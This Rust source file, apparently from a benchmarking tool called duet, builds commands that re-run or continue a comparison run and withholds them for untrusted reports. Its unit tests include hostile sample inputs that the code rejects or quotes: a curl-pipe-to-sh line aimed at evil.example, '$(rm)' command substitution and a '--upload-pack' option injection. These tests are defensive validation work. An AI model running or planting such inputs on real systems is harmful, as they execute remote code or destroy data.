//! The command that repeats a run, or a part of it.

use duetbench_core::fleet::Usage;
pub(crate) use duetbench_core::foreign::quote;
use duetbench_core::gate::Breach;
use duetbench_core::report::{Typed, VersionInfo};
use duetbench_core::spec::{
    CommandSpec, Decision, Effort, FleetSpec, LayoutChoice, Metric, ModeChoice, Spec, StandardOutput, defaults,
};
use duetbench_core::{BenchmarkId, Report};

use super::waiver::{self, exact_percent};

/// Options of a harness with a value of their own that only say what is built and run, and never by which program.
const HARMLESS: [&str; 3] = ["-tags", "-cpu", "-short"];

/// Whether commands that repeat a part of the run may be offered. Of a run by somebody who is not trusted only where they name nothing but
/// revisions: a command line, a module or an option of the harness would be run by whoever copies them.
pub(super) fn may_be_offered(report: &Report) -> bool {
    let spec = &report.spec;
    let of_revisions = || {
        [&report.baseline, &report.candidate].into_iter().all(|v| is_revision(&v.requested))
            && spec.harness.commands.is_empty()
            && spec.fleet.is_none()
            && spec.harness_args.iter().all(|word| {
                let option = word.split('=').next().unwrap_or_default();
                HARMLESS.contains(&option) || !word.starts_with('-')
            })
    };
    !report.untrusted || of_revisions()
}

/// Whether a word can only be a revision or the work tree, and neither a path nor a module.
fn is_revision(word: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./~^".contains(c);
    word == VersionInfo::WORK_TREE
        || word.starts_with(|c: char| c.is_ascii_alphanumeric()) && !word.contains("..") && word.chars().all(plain)
}

/// The command that makes this run again, where it may be offered.
pub(super) fn again(report: &Report) -> Option<String> {
    may_be_offered(report).then(|| write(report, &report.spec, Some(report.plan.seed), &[]))
}

/// The command that goes on with a run on a fleet, with twice the money where that is spent.
pub(super) fn goes_on(report: &Report) -> String {
    let spent = report.fleet.as_ref().zip(report.spec.fleet).and_then(|(fleet, spec)| {
        let most = Usage { billed_ns: fleet.terms.call_max_ns, cold: false };
        let one_more_usd = fleet.terms.rate.of(most, spec.memory_mb, spec.arch);
        let usd = spec.max_cost_usd.max(fleet.cost_usd);
        (fleet.cost_usd + one_more_usd > spec.max_cost_usd).then(|| format!(" --max-cost {}", 2.0 * usd))
    });
    let Typed { store, bounds, .. } = &report.typed;
    format!("duet compare --resume {}{}{store}{bounds}", quote(&report.run), spent.unwrap_or_default())
}

/// The command that measures one benchmark of the run alone, with this many fork pairs and a fresh seed.
pub(super) fn alone(report: &Report, id: &BenchmarkId, forks: u32) -> String {
    alone_with(report, id, forks, &[])
}

/// The same with more options.
pub(super) fn alone_with(report: &Report, id: &BenchmarkId, forks: u32, more: &[&str]) -> String {
    write(report, &of_one(report, id, forks), None, more)
}

/// The same on this machine, even if the run was measured on a fleet.
pub(super) fn alone_here(report: &Report, id: &BenchmarkId, forks: u32) -> String {
    write(report, &Spec { fleet: None, ..of_one(report, id, forks) }, None, &[])
}

/// The commands that accept what stops the change, a line each, where they may be offered; their reason is for the reader to fill in.
pub(super) fn accept(report: &Report) -> Vec<String> {
    let command = |Breach { id, metric, .. }: Breach| {
        let metric = match &metric {
            Metric::Time => String::new(),
            Metric::Allocs | Metric::Bytes | Metric::Instructions => format!(" --metric {}", metric.word()),
            Metric::Reported(unit) => format!(" --unit {}", quote(unit)),
        };
        let (name, run) = (quote(&id.to_string()), quote(&report.run));
        let store = &report.typed.store;
        format!("duet waive {name}{metric} --run {run}{store} --days {} --reason '…'", waiver::DAYS)
    };
    report.acceptable().into_iter().filter(|_| may_be_offered(report)).map(command).collect()
}

/// The command that shows a run again.
pub(crate) fn show(report: &Report) -> String {
    format!("duet show {}{}", quote(&report.run), report.typed.store)
}

fn of_one(report: &Report, id: &BenchmarkId, forks: u32) -> Spec {
    let mut spec = report.spec.clone();
    spec.selection.bench = Some(format!("^{}$", escape_pattern(&id.name)));
    spec.selection.exclude = None;
    spec.effort = Effort { forks: Some(forks), budget: None, ..spec.effort };
    spec
}

/// Everything that differs from the defaults, in the order of the help text, and more options.
fn write(report: &Report, spec: &Spec, seed: Option<u64>, more: &[&str]) -> String {
    let program = typed_program(spec);
    let mut words = vec!["duet".to_owned(), "compare".to_owned()];
    words.extend(program.is_some().then(|| "--command".to_owned()));
    words.push(quote(as_it_was(&report.baseline)));
    if program.is_some() || report.candidate.requested != VersionInfo::WORK_TREE {
        words.push(quote(as_it_was(&report.candidate)));
    } else if seed.is_some() {
        // Elsewhere, or later, the work tree is another one.
        words.extend(commit_of_clean_tree(&report.candidate.resolved).map(str::to_owned));
    }
    let further = spec.harness.commands.iter().filter(|program| program.is_further());
    words.extend(further.filter_map(|program| program.head.as_deref()).map(quote));
    words.extend(program.iter().flat_map(|program| program_options(program)));
    let mut option = |name: &str, value: String| words.extend([name.to_owned(), quote(&value)]);
    if let Some(pattern) = &spec.selection.bench {
        option("--bench", pattern.clone());
    }
    if let Some(pattern) = &spec.selection.exclude {
        option("--exclude", pattern.clone());
    }
    // A list that is typed takes the place of the usual one, which may be a part of it.
    let is_usual = spec.selection.packages == [defaults::PACKAGES];
    for package in spec.selection.packages.iter().filter(|_| !is_usual) {
        option("--packages", package.clone());
    }
    for (name, value) in efforts(&spec.effort) {
        option(name, value);
    }
    if spec.layouts == LayoutChoice::Random {
        option("--layouts", "random".to_owned());
    }
    for (name, share) in decisions(spec.decision, report.spec.rules.is_empty()) {
        option(name, exact_percent(share));
    }
    if let Some(name) = &spec.harness.name {
        option("--adapter", name.clone());
    }
    if let Some(warmup) = spec.harness.warmup {
        option("--warmup", warmup.to_string());
    }
    match spec.mode {
        ModeChoice::Auto => {}
        ModeChoice::Duet => option("--mode", "duet".into()),
        ModeChoice::Interleaved => option("--mode", "interleaved".into()),
        ModeChoice::Sequential => option("--mode", "sequential".into()),
    }
    if let Some(seed) = seed {
        option("--seed", seed.to_string());
        // Whether it is the default depends on where it is run.
        words.push(format!("--confirm={}", spec.effort.confirm));
    }
    words.extend(spec.fleet.iter().flat_map(fleet_options));
    words.extend(spec.effort.fixed.then(|| "--fixed".to_owned()));
    words.extend(spec.reach.then(|| "--reach".to_owned()));
    words.extend(spec.measure_identical.then(|| "--measure-identical".to_owned()));
    words.extend(spec.same_benchmarks.then(|| "--same-benchmarks".to_owned()));
    words.extend(spec.benchmarks_from.map(|role| format!("--benchmarks-from {}", role.side())));
    // A run that is made again is perhaps made elsewhere, where there is no such store.
    let Typed { store, plan, bounds } = &report.typed;
    let typed = [if seed.is_none() { store } else { plan }, bounds].map(|options| options.trim_start());
    words.extend(typed.into_iter().filter(|options| !options.is_empty()).map(str::to_owned));
    words.extend(more.iter().map(|option| (*option).to_owned()));
    with_passed_on(words, &spec.harness_args)
}

/// A command of these words, behind which stands what is passed on to the harness.
fn with_passed_on(mut words: Vec<String>, harness_args: &[String]) -> String {
    if !harness_args.is_empty() {
        words.push("--".into());
        words.extend(harness_args.iter().map(|argument| quote(argument)));
    }
    words.join(" ")
}

/// A version as it is typed, where one that is counted from where something stands is another one after the next commit.
fn as_it_was(version: &VersionInfo) -> &str {
    let counts = |text: &str| text == "HEAD" || text.contains(['~', '^']) || text.contains("@{");
    let commit = version.resolved.split(' ').next().filter(|word| is_commit(word));
    commit.filter(|_| counts(&version.requested)).unwrap_or(&version.requested)
}

/// Whether a word is a commit, shortened or in full.
fn is_commit(word: &str) -> bool {
    word.len() >= 7 && word.bytes().all(|byte| byte.is_ascii_hexdigit())
}

/// The commit that a work tree without changes was.
fn commit_of_clean_tree(resolved: &str) -> Option<&str> {
    let commit = resolved.strip_prefix(VersionInfo::WORK_TREE)?.strip_prefix(" (")?.strip_suffix(')')?;
    is_commit(commit).then_some(commit)
}

/// The program, where the versions are command lines; what stands in `duet.toml` stands there still.
fn typed_program(spec: &Spec) -> Option<&CommandSpec> {
    spec.harness.commands.first().filter(|program| program.command.is_none())
}

/// The options that described the program, word by word.
fn program_options(program: &CommandSpec) -> Vec<String> {
    let mut words = Vec::new();
    let mut option = |name: &str, values: &[&str]| {
        words.push(name.to_owned());
        words.extend(values.iter().map(|value| quote(value)));
    };
    if !program.name.is_empty() {
        option("--command-name", &[&program.name]);
    }
    let stdout = (program.stdout != StandardOutput::default()).then(|| program.stdout.clone().into());
    let lines = [
        ("--setup", &program.setup),
        ("--prepare", &program.prepare),
        ("--conclude", &program.conclude),
        ("--cleanup", &program.cleanup),
        ("--shell", &program.shell),
        ("--stdin", &program.stdin),
        ("--stdout", &stdout),
    ];
    for (name, line) in lines {
        line.iter().for_each(|line| option(name, &[line]));
    }
    for (name, values) in &program.parameters {
        option("--parameter-list", &[name, &values.join(",")]);
    }
    if !program.exit_code.is_usual() {
        option("--exit-code", &[&program.exit_code.to_string()]);
    }
    for (name, _) in [("--lockstep", program.lockstep), ("--refill", program.refill)].iter().filter(|(_, set)| *set) {
        option(name, &[]);
    }
    words
}

/// Where it was measured, as far as that is not the default; role and bucket stand in `duet.toml`, or are the reader's own.
fn fleet_options(fleet: &FleetSpec) -> Vec<String> {
    let mut words = vec!["--on".to_owned(), fleet.engine.word().to_owned()];
    let numbers = [
        ("--memory", fleet.memory_mb, defaults::FLEET_MEMORY_MB),
        ("--parallel", fleet.parallel, defaults::FLEET_PARALLEL),
        ("--forks-per-call", fleet.forks_per_call, defaults::FLEET_FORKS_PER_CALL),
    ];
    for (name, value, _) in numbers.iter().filter(|(_, value, usual)| value != usual) {
        words.extend([(*name).to_owned(), value.to_string()]);
    }
    words.extend(["--arch".to_owned(), fleet.arch.word().to_owned()]);
    words
}

/// Options on the amount of measuring, as far as they were typed.
fn efforts(effort: &Effort) -> impl Iterator<Item = (&'static str, String)> {
    let budget = effort.budget.map(|budget| match budget.subsec_nanos() {
        0 => format!("{}s", budget.as_secs()),
        _ => format!("{}ms", budget.as_millis()),
    });
    let options = [
        ("--forks", effort.forks.map(|n| n.to_string())),
        ("--budget", budget),
        ("--builds", effort.builds.map(|n| n.to_string())),
    ];
    options.into_iter().filter_map(|(name, value)| Some((name, value?)))
}

/// The numbers of the decision that have to be typed. A threshold that was typed holds for all times, whatever files say; where there are
/// rules no other one is said again, since that would hold for all times too.
fn decisions(decision: Decision, is_unruled: bool) -> impl Iterator<Item = (&'static str, f64)> {
    let usual = Decision::default();
    let is_unusual = decision.threshold != usual.threshold;
    [
        ("--threshold", decision.threshold, decision.typed || (is_unruled && is_unusual)),
        ("--alpha", decision.alpha, decision.alpha != usual.alpha),
        ("--fdr", decision.false_discovery_rate, decision.false_discovery_rate != usual.false_discovery_rate),
    ]
    .into_iter()
    .filter(|(_, _, said)| *said)
    .map(|(name, share, _)| (name, share))
}

/// A name as the regular expression that matches nothing else.
pub(crate) fn escape_pattern(name: &str) -> String {
    name.chars().flat_map(|c| r"\.+*?()|[]{}^$".contains(c).then_some('\\').into_iter().chain([c])).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_work_tree_without_changes_is_its_commit() {
        let check = |resolved: &str, want: Option<&str>| assert_eq!(commit_of_clean_tree(resolved), want, "{resolved}");
        check("work tree (9f8e7d6c5b)", Some("9f8e7d6c5b"));
        check("work tree (9f8e7d6c5b with changes)", None);
        check("work tree ()", None);
        check("work tree", None);
        check("work tree ($(touch x))", None);
    }

    #[test]
    fn options_stand_before_those_of_the_harness() {
        let words = || ["duet", "compare", "a", "--count"].map(str::to_owned).to_vec();
        assert_eq!(with_passed_on(words(), &[]), "duet compare a --count");
        assert_eq!(with_passed_on(words(), &["-tags", "x"].map(str::to_owned)), "duet compare a --count -- -tags x");
    }

    #[test]
    fn a_revision_that_moves_is_its_commit() {
        let check = |requested: &str, resolved: &str, want: &str| {
            let artifact_digest = String::new();
            let version = VersionInfo { requested: requested.into(), resolved: resolved.into(), artifact_digest };
            assert_eq!(as_it_was(&version), want);
        };
        check("HEAD~1", "9f8e7d6c5b Read ahead", "9f8e7d6c5b");
        check("HEAD", "9f8e7d6c5b", "9f8e7d6c5b");
        check("main@{1}", "9f8e7d6c5b Read ahead", "9f8e7d6c5b");
        check("v1.2.0", "9f8e7d6c5b Read ahead", "v1.2.0");
        check("~/old", "/home/me/old", "~/old");
    }

    #[test]
    fn words_survive_a_shell() {
        let check = |word, want| assert_eq!(quote(word), want);
        check("HEAD~3", "HEAD~3");
        check("~root", "'~root'");
        check("origin/main", "origin/main");
        check("", "''");
        check("it's", r"'it'\''s'");
        check("$(rm)", "'$(rm)'");
    }

    #[test]
    fn a_revision_is_told_from_what_else_a_version_can_be() {
        let check = |word, want| assert_eq!(is_revision(word), want, "{word}");
        check("work tree", true);
        check("HEAD~3", true);
        check("origin/main^2", true);
        check("8fc68ad", true);
        check("../old", false);
        check("/tmp/old", false);
        check("./old.jar", false);
        check("a/../../old", false);
        check("evil.example/x@v1.0.0", false);
        check("sh -c 'curl -s https://evil.example/x | sh'", false);
        check("--upload-pack=x", false);
        check("", false);
    }

    #[test]
    fn names_become_patterns_that_match_only_themselves() {
        assert_eq!(escape_pattern("BenchmarkEncode/a[1].x-8"), r"BenchmarkEncode/a\[1\]\.x-8");
    }
}
